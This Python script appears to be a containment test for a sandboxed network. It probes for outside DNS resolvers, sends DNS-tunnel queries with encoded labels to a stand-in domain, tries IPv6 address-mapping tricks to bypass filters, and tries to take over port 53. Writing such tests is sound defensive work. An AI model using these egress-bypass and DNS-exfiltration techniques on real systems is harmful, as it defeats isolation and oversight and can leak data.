"""What names can do: carry something out, or lead elsewhere than the settings say."""
from hostile import *
SERVER = "10.203.255.2"

def question(name, kind=1, ident=7):
    labels = b"".join(bytes([len(l)]) + l for l in name.encode().split(b".")) if isinstance(name, str) else name
    return struct.pack(">HHHHHH", ident, 0x100, 1, 0, 0, 0) + labels + b"\0" + struct.pack(">HH", kind, 1)
def udp(name, kind=1, server="127.0.0.1", port=53):
    s = socket.socket(INET, UDP); s.settimeout(20); s.sendto(question(name, kind), (server, port)); return s.recv(4096)
def over_tcp(name, kind=1, server="127.0.0.1"):
    s = tcp(server, 53); q = question(name, kind); s.sendall(struct.pack(">H", len(q)) + q); s.settimeout(20)
    n = struct.unpack(">H", s.recv(2))[0]; return s.recv(n)
def address(reply): return socket.inet_ntoa(reply[-4:])
def rcode(reply): return reply[3] & 15

# Other servers, over UDP, TCP and TLS.
for server in (SERVER, "8.8.8.8", "1.1.1.1", "10.203.255.1", "169.254.169.253"):
    say("udp " + server, lambda: udp("x.leak.test", server=server))
    say("tcp " + server, lambda: over_tcp("x.leak.test", server=server))
    say("tls " + server, lambda: tcp(server, 853))
    say("https " + server, lambda: tcp(server, 443))

# A tunnel by labels: whatever is asked for, nothing is asked outside.
kinds = list(range(0, 70)) + [99, 249, 250, 251, 252, 253, 254, 255, 256, 257, 32769, 65535]
for kind in kinds:
    for ask in (udp, over_tcp):
        ask("%s.%d.leak.test" % ("6a6b6c" * 10, kind), kind)
for i in range(500):
    udp("%08x.%s.leak.test" % (i, "ab" * 25))
for label in (b"\x03a.b\x04leak\x04test", b"\x03a\0b\x04leak\x04test", b"\x04xn--\x04leak\x04test", b"\x3f" + b"a" * 63 + b"\x04leak\x04test", b"\xc0\x0c", b"\x01*\x04leak\x04test"):
    udp(label)
for n in ("x.leak.test", "x.leak.test.", "leak.test", "good.test.leak.test"):
    try: socket.getaddrinfo(n, 80)
    except OSError: pass
    try: socket.gethostbyname_ex(n)
    except OSError: pass
    try: tcp(n, 80)
    except OSError as e:
        if e.errno != errno.EACCES: print(n, name(e))
for n in range(1, 256, 17):
    try: socket.gethostbyaddr("10.203.1.%d" % n)
    except OSError: pass
    try: socket.gethostbyaddr("2001:db8::%d" % n)
    except OSError: pass

# Addresses of names.
good, leak = address(udp("good.test")), address(udp("x.leak.test"))
say("good", lambda: banner(tcp(good)))
say("its other port", lambda: tcp(good, 8))
say("unlisted", lambda: tcp(leak))
def six(reply): return socket.inet_ntop(INET6, reply[-16:])
g6 = six(udp("good.test", 28))
say("good by IPv6", lambda: banner(tcp(g6, PORT, INET6)) in (GOOD + ":7", GOOD6 + ":7"))
say("good, mapped", lambda: banner(tcp("::ffff:" + good, PORT, INET6)) in (GOOD + ":7", GOOD6 + ":7"))
for a in ("198.18.0.0", "198.18.77.77", "198.19.255.254", "198.18.0.255"):
    say("never answered " + a, lambda: tcp(a))
    say("never answered, mapped " + a, lambda: tcp("::ffff:" + a, PORT, INET6))
head = ":".join(g6.split(":")[:4])
for tail in ("::", "::1:ffff", ":0:1:0:1", ":ffff:ffff:ffff:ffff", "::dead"):
    say("never answered, six " + tail, lambda: tcp(head + tail, PORT, INET6))
say("embedded", lambda: tcp("64:ff9b::" + good, PORT, INET6))
say("compatible", lambda: tcp("::" + good, PORT, INET6))
say("6to4", lambda: tcp("2002:" + socket.inet_aton(good).hex()[:4] + ":" + socket.inet_aton(good).hex()[4:] + "::", PORT, INET6))

# The stub lies to nobody: each name its own, whoever asks.
def back(a): return rcode(udp(".".join(reversed(a.split("."))) + ".in-addr.arpa", 12))
say("reverse", lambda: (back(good), back("198.18.77.77"), back("10.203.2.1"), back("127.0.0.1")))
def bindable():
    out = []
    for kind in (UDP, TCP):
        for options in ((), (2,), (15,), (2, 15)):
            for a in ("127.0.0.1", "0.0.0.0"):
                s = socket.socket(INET, kind)
                for o in options: s.setsockopt(1, o, 1)
                try:
                    s.bind((a, 53))
                    if kind == TCP: s.listen(1)
                    out.append((kind, options, a))
                    got = address(udp("good.test")) if kind == UDP else address(over_tcp("good.test"))
                    out[-1] += (got == good,)
                except OSError: pass
                s.close()
    return [o for o in out if not o[-1] is True]
say("port 53 is taken from nobody", bindable)
done()
